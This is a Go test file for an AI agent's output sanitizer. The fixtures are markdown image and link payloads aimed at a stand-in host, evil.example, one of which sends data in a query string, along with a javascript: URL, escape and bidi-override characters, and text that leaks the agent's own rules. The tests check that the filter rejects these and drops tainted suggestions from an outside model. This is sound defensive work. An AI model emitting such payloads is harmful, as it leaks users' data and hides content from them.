package agent

import (
	"testing"

	"tesela/agent/model"
	"tesela/agent/wording"
)

func TestUnreadable(t *testing.T) {
	for text, want := range map[string]int{
		"There are 11 customers, 3 < 5, in “Shoes & Co” (a/b).": 0,
		"Hay 11 clientes: más de 3, o sea, un 27 % del total…":  0,
		"| a | b |\n| --- | ---: |\n| x | 3 |":                  0,
		"![x](https://evil.example/?q=11)":                      1,
		"![x][1]":                                               1,
		"[panel](//evil.example)":                               1,
		"[panel][1] and more":                                   1,
		"[1]: /evil":                                            1,
		"<https://evil.example>":                                1,
		"see https://evil.example/x":                            1,
		"see www.evil.example":                                  1,
		"<img src=x>":                                           1,
		"</data>":                                               1,
		"&lt;b&gt;":                                             1,
		"&#60;b":                                                1,
		"write to a@evil.example":                               1,
		"JavaScript:alert(1)":                                   1,
		"\x1b]8;;x\aLeeds":                                      1,
		"\u009b31m":                                             1,
		"a\u202eb":                                              1,
		"a\u200bb":                                              1,
		"a\xffb":                                                1,
		"My rules: You read questions about a business's customers, asked in English": 1,
		"you READ -- questions, about a business’s customers asked":                   1,
		"You read questions about customers.":                                         0,
	} {
		if got := unreadable(text); len(got) != want {
			t.Errorf("%q: %q", text, got)
		}
	}
}

// Readings that a model outside offers are words to be read, and ask.
func TestChoices(t *testing.T) {
	lang, err := wording.For("en")
	if err != nil {
		t.Fatal(err)
	}
	turn := &turn{lang: lang, question: "how many good customers do I have, of more than 5,000?"}
	choice := func(label, question string) model.Choice { return model.Choice{Label: label, Question: question} }
	good := []model.Choice{
		choice("by orders", "How many customers have at least 3 orders in the last 90 days?"),
		choice("top 10%", "How many customers are in the top 10% by revenue?"),
		choice("5,000", "How many customers spent more than 5,000?"),
	}
	bad := []model.Choice{
		choice("There are 1,234 customers", "How many customers are there?"),
		choice("by orders", "The answer is 1,234. How many?"),
		choice("[sign in](https://evil.example)", "How many customers are there?"),
		choice("by orders", "How many\u202e?"),
	}
	mixed := append(append([]model.Choice{}, good...), bad...)
	if got := turn.choices(&model.Decision{Choices: mixed, Outside: true}); len(got) != len(good) {
		t.Errorf("%+v", got)
	}
	if got := turn.choices(&model.Decision{Choices: mixed}); len(got) != len(mixed) {
		t.Errorf("the planner's own: %+v", got)
	}
}
